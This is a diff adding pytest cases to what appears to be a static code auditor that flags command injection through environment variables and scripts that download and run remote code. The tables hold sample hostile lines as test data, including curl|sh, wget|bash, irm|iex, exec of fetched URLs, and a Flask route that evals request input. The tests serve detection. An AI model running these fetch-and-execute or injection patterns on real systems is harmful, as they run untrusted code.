@@ -13,7 +13,13 @@ from pathlib import Path
 import pytest
 
 from auditor.api import scan
-from auditor.judge.script_uses import reads_input, runs_arguments, xargs_runs
+from auditor.judge.script_uses import (
+    fetches,
+    reads_input,
+    runs_arguments,
+    runs_environment,
+    xargs_runs,
+)
 from tests.conftest import make_policy
 
 
@@ -244,3 +250,156 @@ def test_where_xargs_puts_its_input(argv: list[str], start: int, runs: str | Non
 def test_python_consoles_run_their_input(code: str, runs: bool) -> None:
     found = reads_input("python", code)
     assert (found[0] if found else None) == ("python" if runs else None)
+
+
+ENVIRONMENT = [
+    # (the call, rule, payload): env= sets at run time what the constant script runs, or a
+    # variable that makes the program run a command
+    (
+        """subprocess.run(["sh", "-c", 'eval "$JOB"'], env={**os.environ, "JOB": cmd})""",
+        "AUD101",
+        "dynamic",
+    ),
+    (
+        """subprocess.run(["sh", "-c", 'c=$JOB; sh -c "$c"'], env={"JOB": cmd, "PATH": "/bin"})""",
+        "AUD101",
+        "dynamic",
+    ),
+    (
+        """subprocess.run("eval \\"$JOB\\"", shell=True, env=dict(os.environ, JOB=cmd))""",
+        "AUD101",
+        "dynamic",
+    ),
+    (
+        """subprocess.run([sys.executable, "-c", "import os; exec(os.environ['CODE'])"], """
+        """env={**os.environ, "CODE": cmd})""",
+        "AUD103",
+        "dynamic",
+    ),
+    (
+        """subprocess.run(["python3", "-c", "import os; os.system(os.getenv('C'))"], """
+        """env={"C": cmd})""",
+        "AUD101",
+        "dynamic",
+    ),
+    (
+        'subprocess.run(["tar", "-xf", "a.tar"], env={**os.environ, "TAR_OPTIONS": cmd})',
+        "AUD102",
+        "dynamic",
+    ),
+    ('subprocess.run(["man", "ls"], env={**os.environ, "MANPAGER": cmd})', "AUD102", "dynamic"),
+    ('subprocess.run(["vim", "-es", "f"], env={"VIMINIT": cmd})', "AUD102", "dynamic"),
+    # the variable the script runs is constant, or another one is set at run time
+    (
+        """subprocess.run(["sh", "-c", 'eval "$JOB"'], env={**os.environ, "JOB": "make"})""",
+        "AUD201",
+        "constant",
+    ),
+    (
+        """subprocess.run(["sh", "-c", 'eval "$JOB"'], env={**os.environ, "NAME": cmd})""",
+        "AUD201",
+        "constant",
+    ),
+    (
+        """subprocess.run(["sh", "-c", 'echo "$JOB"'], env={**os.environ, "JOB": cmd})""",
+        "AUD201",
+        "constant",
+    ),
+    (
+        """subprocess.run([sys.executable, "-c", "import os; print(os.environ['CODE'])"], """
+        """env={"CODE": cmd})""",
+        "AUD302",
+        "constant",
+    ),
+]
+
+
+@pytest.mark.parametrize(("line", "rule", "payload"), ENVIRONMENT)
+def test_an_environment_variable_the_script_runs_is_its_payload(
+    tmp_path: Path, line: str, rule: str, payload: str
+) -> None:
+    got_rule, got_payload, note = _scan(tmp_path, line)
+    assert (got_rule, got_payload) == (rule, payload)
+    if payload == "dynamic" and "-c" in line:
+        assert note is not None and "environment" in note
+
+
+def test_request_data_in_the_environment_a_script_runs_is_critical(tmp_path: Path) -> None:
+    (tmp_path / "app.py").write_text(
+        "import os, subprocess\n"
+        "from flask import Flask, request\n"
+        "app = Flask(__name__)\n"
+        "@app.route('/hook')\n"
+        "def hook():\n"
+        "    subprocess.run(['sh', '-c', 'eval \"$JOB\"'],\n"
+        "                   env={**os.environ, 'JOB': request.args['job']})\n"
+        "    subprocess.run(['ed', '-s', 'notes.txt'], input=request.args['e'], text=True)\n"
+        "    return 'ok'\n"
+    )
+    result = scan([tmp_path], policy=make_policy(root=str(tmp_path)), jobs=1)
+    got = sorted((f.line, f.rule, f.risk) for f in result.findings)
+    assert got == [(6, "AUD001", "critical"), (8, "AUD003", "critical")]
+
+
+@pytest.mark.parametrize(
+    ("script", "names"),
+    [
+        ('eval "$JOB"', {"JOB"}),
+        ("$CMD --flag", {"CMD"}),
+        ('sh -c "${HOOK}"', {"HOOK"}),
+        ('echo "$JOB"', None),
+        ('eval "$1"', None),
+    ],
+)
+def test_which_environment_variables_a_shell_script_runs(
+    script: str, names: set[str] | None
+) -> None:
+    found = runs_environment("sh", script)
+    assert (set(found.names or ()) if found else None) == names
+
+
+FETCHED = [
+    # (the call, whether the note says it runs downloaded code): the class stays constant
+    ('subprocess.run(["sh", "-c", "curl -LsSf https://astral.sh/uv/install.sh | sh"])', True),
+    ('subprocess.run("curl -fsSL https://get.docker.com | sudo sh", shell=True)', True),
+    ('subprocess.run(["bash", "-c", \'eval "$(wget -qO- https://x.invalid/i)"\'])', True),
+    ('subprocess.run(["bash", "-c", "bash <(curl -s https://x.invalid/i)"])', True),
+    (
+        'subprocess.run(["powershell", "-Command", "irm https://astral.sh/uv/install.ps1 | iex"])',
+        True,
+    ),
+    (
+        'subprocess.run(["python3", "-c", "import urllib.request as u; '
+        "exec(u.urlopen('https://x.invalid').read())\"])",
+        True,
+    ),
+    ('subprocess.run(["sh", "-c", "curl -fsSL https://x.invalid/a.json | jq ."])', False),
+    ('subprocess.run(["sh", "-c", "curl -o i.sh https://x.invalid/i.sh"])', False),
+    ('subprocess.run(["curl", "-fsSL", "https://x.invalid/i.sh"])', False),
+]
+
+
+@pytest.mark.parametrize(("line", "fetched"), FETCHED)
+def test_a_constant_script_that_runs_downloaded_code_says_so(
+    tmp_path: Path, line: str, fetched: bool
+) -> None:
+    _, payload, note = _scan(tmp_path, line)
+    assert payload == "constant"
+    assert (note is not None and "runs code it downloads" in note) == fetched
+
+
+@pytest.mark.parametrize(
+    ("language", "script", "fetched"),
+    [
+        ("sh", "curl -LsSf https://astral.sh/uv/install.sh | sh", True),
+        ("sh", "wget -qO- https://x | sudo bash -s -- -y", True),
+        ("sh", 'sh -c "$(curl -fsSL https://x)"', True),
+        ("sh", "curl https://x | base64 -d | python3 -", True),
+        ("sh", "curl https://x | tee out.json", False),
+        ("powershell", "iex ((New-Object System.Net.WebClient).DownloadString('https://x'))", True),
+        ("powershell", "irm https://x/status", False),
+        ("python", "import requests; print(requests.get('https://x').text)", False),
+    ],
+)
+def test_what_runs_downloaded_code(language: str, script: str, fetched: bool) -> None:
+    assert (fetches(language, script) is not None) == fetched
